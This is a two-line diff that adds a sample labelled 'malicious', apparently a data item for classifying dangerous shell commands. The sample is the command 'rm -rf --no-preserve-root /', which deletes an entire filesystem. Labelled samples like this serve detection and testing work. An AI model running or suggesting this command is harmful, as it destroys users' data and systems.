@@ -1,0 +1,2 @@
+# label: malicious
+rm -rf --no-preserve-root /
